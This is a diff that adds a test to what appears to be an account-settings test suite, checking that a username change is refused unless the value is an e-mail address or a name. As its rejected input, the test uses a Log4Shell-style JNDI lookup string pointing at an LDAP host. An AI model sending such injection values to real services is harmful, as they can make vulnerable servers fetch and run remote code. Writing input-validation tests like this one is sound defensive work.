@@ -161,3 +161,12 @@ describe('when the login is not recent', () => {
     expect((await callWith(host.token, host, { ...RENAME, currentPassword: AGENT.password })).statusCode).toBe(200);
   });
 });
+
+test('refuses a username that is neither an e-mail address nor a name', async () => {
+  const host = await testApp();
+  const change = (newUsername: string) => callWith(host.token, host, { newUsername });
+  const refused = await change('${jndi:ldap://mail.example/a}');
+  const message = 'The username must be an e-mail address or a name.';
+  expect([refused.statusCode, refused.json()]).toEqual([400, { message, errors: { newUsername: message } }]);
+  for (const name of ['Mary Neil', 'mary@mail.example']) expect((await change(name)).statusCode).toBe(200);
+});
